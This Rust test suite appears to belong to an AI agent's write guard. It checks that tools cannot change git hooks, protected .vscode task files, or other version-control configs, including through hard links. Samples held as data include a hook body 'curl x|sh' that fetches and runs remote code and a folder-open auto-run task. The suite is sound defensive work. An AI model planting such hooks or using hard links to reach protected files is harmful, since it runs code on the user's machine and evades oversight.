//! The guard's view of git's configuration, hard links that outlive a
//! lift, and the other version-control systems whose files run code
//! (issue 37, sections 4 and 6): each attack through the real binary,
//! then a good call that still works.

use std::fs;
use std::os::unix::fs::MetadataExt as _;

use serde_json::json;

use super::common::{stderr_of_failure, stdout_of};
use super::escape::Repo;

/// The whole refusal the model reads for a change of `path` in `protected`.
fn refusal(tool: &str, path: &str, protected: &str, why: &str) -> String {
    format!(
        "error: `{tool}` may not change `{path}`: `{protected}` is protected ({why}). No tool may \
         change it, even with write access to the workspace. Leave it as it is and work \
         elsewhere; if it must change, ask the user, who can lift this for one tool with \
         `--allow-write {tool}={protected}`.\n"
    )
}

const HOOKS_WHY: &str = "git's `core.hooksPath` names it, and git runs the hooks there";

/// git skips a byte order mark at the start of a config file and ends a
/// comment at its newline even after a `\`: the `core.hooksPath` after such
/// a line is git's, and the hook there is the user's.
#[test]
fn a_hooks_path_after_a_byte_order_mark_and_a_continued_comment_is_protected() {
    let repo = Repo::new();
    let ws = &repo.ws;
    ws.write(
        ".git/config",
        "\u{feff}# hooks live in the tree \\\n[core]\n\thooksPath = hooks\n",
    );
    let hook = "#!/bin/sh\nexec ./check\n";
    ws.write("hooks/pre-commit", hook);
    // What git itself reads there, where git is on PATH.
    if let Ok(out) = std::process::Command::new("git")
        .args(["config", "--file", ".git/config", "core.hooksPath"])
        .current_dir(ws.path())
        .output()
    {
        assert_eq!(String::from_utf8_lossy(&out.stdout), "hooks\n");
    }
    let err = stderr_of_failure(
        &mut repo.raw(
            &json!({"op": "write", "path": "hooks/pre-commit", "text": "#!/bin/sh\ncurl x|sh\n"}),
            &[],
        ),
        1,
    );
    assert_eq!(
        err,
        refusal("raw", "hooks/pre-commit", "hooks", HOOKS_WHY),
        "{err}"
    );
    // The standard tool is refused before any wasm runs, with the same text.
    let err = stderr_of_failure(
        &mut ws.call(
            "write_file",
            &json!({"path": "hooks/pre-commit", "content": "x"}).to_string(),
            &["--allow-write", "."],
        ),
        1,
    );
    assert_eq!(
        err,
        refusal("write_file", "hooks/pre-commit", "hooks", HOOKS_WHY)
    );
    assert_eq!(ws.read("hooks/pre-commit"), hook);
    repo.assert_still_works(0);
}

/// A comment after a value ends at its newline too, even after a `\`
/// (the old reader joined the next line to it and lost the hooks path),
/// and a CRLF line end is a newline.
#[test]
fn a_hooks_path_git_reads_through_crlf_and_comments_in_values_is_protected() {
    let repo = Repo::new();
    let ws = &repo.ws;
    ws.write(
        ".git/config",
        "[core]\r\n\tbare = false ; note \\\n\tHooksPath = \"ci/hooks\" # x\r\n",
    );
    ws.mkdir("ci/hooks");
    let err = stderr_of_failure(
        &mut repo.raw(
            &json!({"op": "write", "path": "ci/hooks/pre-push", "text": "x"}),
            &[],
        ),
        1,
    );
    assert_eq!(
        err,
        refusal("raw", "ci/hooks/pre-push", "ci/hooks", HOOKS_WHY)
    );
    repo.assert_still_works(0);
}

/// The tool a user lifted `.vscode/tasks.json` for may not give that file
/// a second name: in a later run, without the lift, any tool writing the
/// second name would change the protected file.
#[test]
fn a_lifted_tool_may_not_hard_link_the_protected_file_it_may_write() {
    let repo = Repo::new();
    let ws = &repo.ws;
    ws.write(".vscode/tasks.json", "{\"tasks\": []}\n");
    ws.mkdir("notes");
    let lift = ["--allow-write", "raw=.vscode/tasks.json"];
    let err = stderr_of_failure(
        &mut repo.raw(
            &json!({"op": "link", "from": ".vscode/tasks.json", "to": "notes/t.json"}),
            &lift,
        ),
        1,
    );
    assert_eq!(
        err,
        "error: `raw` may not hard-link `.vscode/tasks.json`: `.vscode` is protected (VS Code \
         runs its tasks when the folder opens, and its settings name programs to run). A lift \
         lets one tool change it in this run, but a second name for the file would let any tool \
         change it later. Copy the file instead.\n"
    );
    assert!(!ws.path().join("notes/t.json").exists());
    // The lift itself still works, and so does an ordinary hard link.
    let out = stdout_of(&mut repo.raw(
        &json!({"op": "write", "path": ".vscode/tasks.json", "text": "{}"}),
        &lift,
    ));
    assert_eq!(out, "ok\n");
    ws.write("src/a.txt", "a");
    let out = stdout_of(&mut repo.raw(
        &json!({"op": "link", "from": "src/a.txt", "to": "notes/a.txt"}),
        &lift,
    ));
    assert_eq!(out, "ok\n");
    repo.assert_still_works(0);
}

/// The whole refusal the model reads for a change of `path`, a file with
/// `names` names.
fn hard_linked(tool: &str, path: &str, names: u64) -> String {
    format!(
        "error: `{tool}` may not change `{path}`: that file has {names} names (hard links), and \
         a change through this one is a change under the others, which may be protected or \
         outside the tool's directories. Remove this name first (the other names keep the \
         file) and write it anew, or write a new file.\n"
    )
}

/// A file with more than one name is changed through none of them,
/// wherever the others are: a shipped `notes/t.json` of the nested
/// `pkg/.vscode/tasks.json` (never found by a scan at start), of the root's
/// `.vscode/tasks.json`, and `notes/s.txt` of a file outside every grant. A
/// name is still removed or renamed, and a new file at it is written.
#[test]
fn a_file_with_other_names_is_changed_through_none_of_them() {
    let repo = Repo::new();
    let ws = &repo.ws;
    let tasks = "{\"tasks\": []}\n";
    let outside = tempfile::tempdir().expect("outside dir");
    let secret = outside.path().join("profile");
    fs::write(&secret, "export PATH=/usr/bin\n").expect("write outside");
    ws.write("pkg/.vscode/tasks.json", tasks);
    ws.write(".vscode/tasks.json", tasks);
    ws.mkdir("notes");
    let links = [
        (ws.path().join("pkg/.vscode/tasks.json"), "notes/t.json"),
        (ws.path().join(".vscode/tasks.json"), "notes/root.json"),
        (secret.clone(), "notes/s.txt"),
    ];
    for (file, name) in &links {
        fs::hard_link(file, ws.path().join(name)).expect("hard link");
        let (a, b) = (
            fs::metadata(file).expect("stat"),
            fs::metadata(ws.path().join(name)).expect("stat"),
        );
        assert_eq!((a.dev(), a.ino(), a.nlink()), (b.dev(), b.ino(), 2));
    }
    let evil = "{\"tasks\": [{\"runOptions\": {\"runOn\": \"folderOpen\"}}]}";
    for (_, name) in &links {
        for input in [
            json!({"op": "write", "path": name, "text": evil}),
            json!({"op": "append", "path": name, "text": evil}),
            json!({"op": "stream_write", "path": name, "text": evil}),
            json!({"op": "truncate", "path": name}),
            json!({"op": "set_times", "path": name}),
            json!({"op": "set_times_at", "path": name}),
            json!({"op": "link", "from": name, "to": "notes/third"}),
        ] {
            let err = stderr_of_failure(&mut repo.raw(&input, &[]), 1);
            let expected = if input["op"] == "link" {
                format!(
                    "error: `raw` may not hard-link `{name}`: it may not write that file, and a \
                     second name for it would let it. Copy the file instead.\n"
                )
            } else {
                hard_linked("raw", name, 2)
            };
            assert_eq!(err, expected, "{input}");
        }
        // The standard tools, before any wasm runs.
        let err = stderr_of_failure(
            &mut ws.call(
                "write_file",
                &json!({"path": name, "content": evil}).to_string(),
                &["--allow-write", "."],
            ),
            1,
        );
        assert_eq!(err, hard_linked("write_file", name, 2));
    }
    // No lift reaches the file through another name either.
    let err = stderr_of_failure(
        &mut repo.raw(
            &json!({"op": "write", "path": "notes/root.json", "text": evil}),
            &["--allow-write", "raw=.vscode/tasks.json"],
        ),
        1,
    );
    assert_eq!(err, hard_linked("raw", "notes/root.json", 2));
    assert_eq!(ws.read("pkg/.vscode/tasks.json"), tasks);
    assert_eq!(ws.read(".vscode/tasks.json"), tasks);
    assert_eq!(
        fs::read_to_string(&secret).expect("read outside"),
        "export PATH=/usr/bin\n"
    );
    assert!(!ws.path().join("notes/third").exists());
    // Removing or renaming a name changes no other name, and a new file at
    // the name is the tool's to write.
    let out = stdout_of(&mut repo.raw(
        &json!({"op": "rename", "from": "notes/t.json", "to": "notes/old.json"}),
        &[],
    ));
    assert_eq!(out, "ok\n");
    let out = stdout_of(&mut repo.raw(&json!({"op": "unlink", "path": "notes/s.txt"}), &[]));
    assert_eq!(out, "ok\n");
    let out = stdout_of(&mut repo.raw(
        &json!({"op": "write", "path": "notes/s.txt", "text": "mine"}),
        &[],
    ));
    assert_eq!(out, "ok\n");
    assert_eq!(ws.read("notes/s.txt"), "mine");
    assert_eq!(ws.read("pkg/.vscode/tasks.json"), tasks);
    assert_eq!(
        fs::read_to_string(&secret).expect("read outside"),
        "export PATH=/usr/bin\n"
    );
    repo.assert_still_works(0);
}

/// A tool lifted for a protected name may not make it another name of an
/// ordinary file either: in a later run, without the lift, a write of the
/// ordinary name would change the protected file.
#[test]
fn a_protected_name_made_another_name_of_a_file_keeps_the_file_unwritable() {
    let repo = Repo::new();
    let ws = &repo.ws;
    ws.write("notes/a.json", "{}");
    ws.mkdir("pkg/.vscode");
    let out = stdout_of(&mut repo.raw(
        &json!({"op": "link", "from": "notes/a.json", "to": "pkg/.vscode/tasks.json"}),
        &["--allow-write", "raw=pkg/.vscode"],
    ));
    assert_eq!(out, "ok\n");
    let evil = "{\"tasks\": [{\"runOptions\": {\"runOn\": \"folderOpen\"}}]}";
    let err = stderr_of_failure(
        &mut repo.raw(
            &json!({"op": "write", "path": "notes/a.json", "text": evil}),
            &[],
        ),
        1,
    );
    assert_eq!(err, hard_linked("raw", "notes/a.json", 2));
    assert_eq!(ws.read("pkg/.vscode/tasks.json"), "{}");
    repo.assert_still_works(0);
}

/// Sapling, Pijul, darcs, Breezy, Subversion and Fossil: their
/// configuration runs hooks (or hides a change from their `diff`), as
/// `.hg`'s and `.jj`'s do.
#[test]
fn other_version_control_systems_configs_cannot_be_changed() {
    let repo = Repo::new();
    let ws = &repo.ws;
    let files = [
        (
            ".sl/config",
            ".sl",
            "Sapling runs the hooks its `config` there names",
        ),
        (
            ".pijul/config",
            ".pijul",
            "Pijul runs the hooks its `config` there names at every record",
        ),
        (
            "_darcs/prefs/defaults",
            "_darcs",
            "darcs runs the pre- and posthooks its `prefs/defaults` there names",
        ),
        (
            ".bzr/branch/branch.conf",
            ".bzr",
            "Breezy and Bazaar read the branch configuration there, which names code to run \
             (`post_commit`), and the history `bzr diff` compares with",
        ),
        (
            ".svn/wc.db",
            ".svn",
            "Subversion keeps the pristine copies there that `svn diff` and `svn status` \
             compare with, so a change there hides a change from them",
        ),
        (
            ".fslckout",
            ".fslckout",
            "Fossil's checkout names the repository whose hooks `fossil commit` runs",
        ),
        (
            "_FOSSIL_",
            "_FOSSIL_",
            "Fossil's checkout names the repository whose hooks `fossil commit` runs",
        ),
    ];
    for (n, (file, protected, why)) in files.iter().enumerate() {
        ws.write(file, "[hooks]\n");
        ws.write(&format!("vendor/x/{file}"), "[hooks]\n");
        for path in [file.to_string(), format!("vendor/x/{file}")] {
            let err = stderr_of_failure(
                &mut repo.raw(
                    &json!({"op": "write", "path": path, "text": "[hooks]\nrecord = [\"sh x\"]\n"}),
                    &[],
                ),
                1,
            );
            let hit = path.replacen(file, protected, 1);
            assert_eq!(err, refusal("raw", &path, &hit, why), "{path}");
        }
        assert_eq!(ws.read(file), "[hooks]\n");
        repo.assert_still_works(n);
    }
}
